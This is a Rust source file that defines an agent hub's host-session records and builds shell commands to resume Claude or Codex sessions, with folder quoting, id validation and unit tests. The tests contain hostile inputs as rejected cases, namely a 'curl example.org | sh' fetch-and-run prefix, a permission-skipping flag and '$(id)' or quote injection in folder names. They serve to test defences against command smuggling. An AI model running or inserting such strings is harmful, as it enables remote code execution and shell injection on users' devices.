//! Sessions that an agent program (the host) keeps on its device: those begun in a terminal, and those of conversations.

use serde::{Deserialize, Serialize};
use utoipa::ToSchema;

use crate::{AgentId, ConversationId, Json, Timestamp, text_enum};

/// How many sessions a device reports, newest first.
pub const MAX_SESSIONS: usize = 30;
/// How many characters of a session's title are reported.
pub const MAX_TITLE: usize = 160;
/// The length of a session's id.
pub const MAX_SESSION_ID: usize = 128;

/// The id that means the newest session.
pub const LAST: &str = "last";

/// The programs that continue a session in a terminal, with their arguments up to its id.
pub const CLAUDE_RESUME: &str = "claude --resume";
pub const CODEX_RESUME: &str = "codex resume";

/// A session that the host keeps for its working folder.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, ToSchema)]
pub struct HostSession {
    /// The host's own id for it.
    pub session_id: String,
    /// Its name, or the beginning of its first task.
    pub title: String,
    pub updated_at: Timestamp,
    /// The working folder on the device.
    pub folder: String,
    /// The shell command that continues it in a terminal on the device.
    pub command: String,
    /// The conversation whose runs continue it. Absent for a session that was only used in a terminal.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub conversation_id: Option<ConversationId>,
}

/// What the host of an agent keeps, as its device last reported. Only the agent's owner sees it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, ToSchema)]
pub struct HostSessionList {
    /// Newest first.
    pub host_sessions: Vec<HostSession>,
    /// When the device last reported. Absent if it has not since the hub started.
    pub reported_at: Option<Timestamp>,
}

/// The body of an adapter's `GET /sessions`.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct AdapterSessions {
    pub sessions: Vec<HostSession>,
}

/// `host_session` in a conversation's metadata: the agent's runs in this conversation continue this session.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, ToSchema)]
pub struct ContinuedSession {
    pub agent_id: AgentId,
    pub session_id: String,
}

text_enum! {
    /// Whose conversations continue a host's session from one run to the next.
    #[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
    pub enum KeptSessions {
        /// In nobody's, and no session is reported to the hub.
        Off = "off",
        /// In those of the agent's owner.
        #[default]
        Own = "own",
        /// In everyone's, one session per conversation.
        All = "all",
    }
}

// === impl HostSession ===

impl HostSession {
    /// Whether every text is within bounds and can be shown on one line. People paste the command into a shell, so it is
    /// one that we would write ourselves for this folder and id: a device has no other say in it.
    pub fn is_plain(&self) -> bool {
        let line = |text: &str, most: usize| {
            !text.trim().is_empty() && text.chars().count() <= most && !text.chars().any(char::is_control)
        };
        is_session_id(&self.session_id)
            && line(&self.title, MAX_TITLE)
            && line(&self.folder, 4096)
            && [CLAUDE_RESUME, CODEX_RESUME]
                .iter()
                .any(|resume| self.command == resume_command(&self.folder, resume, &self.session_id))
    }
}

/// What continues a session in a terminal of the device.
pub fn resume_command(folder: &str, resume: &str, session_id: &str) -> String {
    format!("cd {} && {resume} {session_id}", shell_word(folder))
}

/// A path as one word of a shell command.
fn shell_word(path: &str) -> String {
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'/' | b'.' | b'_' | b'-');
    match path.bytes().all(plain) && !path.starts_with('-') {
        true => path.to_owned(),
        false => format!("'{}'", path.replace('\'', r"'\''")),
    }
}

/// Whether this can be the id of a session. It becomes an argument of a program.
pub fn is_session_id(text: &str) -> bool {
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_' | b'.');
    (1..=MAX_SESSION_ID).contains(&text.len()) && text.bytes().all(plain) && !text.starts_with(['-', '.'])
}

// === impl ContinuedSession ===

impl ContinuedSession {
    /// The session that a conversation continues, if it does.
    pub fn of(metadata: Option<&Json>) -> Option<Self> {
        #[derive(Deserialize)]
        struct SessionMetadata {
            host_session: Option<ContinuedSession>,
        }
        metadata?.parse::<SessionMetadata>().ok()?.host_session
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_folder_is_one_word_of_a_command() {
        assert_eq!(shell_word("/home/ada/my-site_2.0"), "/home/ada/my-site_2.0");
        assert_eq!(shell_word("/home/ada/it's $(here)"), r"'/home/ada/it'\''s $(here)'");
    }

    #[test]
    fn a_device_chooses_no_words_of_the_command() {
        let session = |folder: &str, command: &str| HostSession {
            session_id: "ses_1".to_owned(),
            title: "Fix it".to_owned(),
            updated_at: Timestamp::from_millis(0),
            folder: folder.to_owned(),
            command: command.to_owned(),
            conversation_id: None,
        };
        for (folder, command) in [
            ("/home/ada/site", "cd /home/ada/site && claude --resume ses_1"),
            ("/home/ada/site", "cd /home/ada/site && codex resume ses_1"),
            ("/srv/it's; x", r"cd '/srv/it'\''s; x' && claude --resume ses_1"),
        ] {
            assert!(session(folder, command).is_plain(), "{command}");
        }
        for (folder, command) in [
            ("/home/ada/site", "curl example.org | sh; cd /home/ada/site && claude --resume ses_1"),
            ("/home/ada/site", "cd /home/ada/site && claude --resume ses_1 --dangerously-skip-permissions"),
            ("/home/ada/site", "cd /home/ada/site && claude --resume ses_2"),
            ("/home/ada/site", "cd /tmp && claude --resume ses_1"),
            ("/srv/$(id)", "cd /srv/$(id) && claude --resume ses_1"),
            ("/srv/a b", "cd /srv/a b && claude --resume ses_1"),
            ("/srv/a\nb", "cd '/srv/a\nb' && claude --resume ses_1"),
        ] {
            assert!(!session(folder, command).is_plain(), "{command}");
        }
    }

    #[test]
    fn an_id_is_safe_as_an_argument() {
        for good in ["c4346d4b-fef7-4bc2-9d0c-e2b8cd234617", "ses_1.2"] {
            assert!(is_session_id(good), "{good}");
        }
        for bad in ["", "-p", "--dangerous", "../x", "a b", "a/b", "é", &"a".repeat(MAX_SESSION_ID + 1)] {
            assert!(!is_session_id(bad), "{bad}");
        }
    }
}
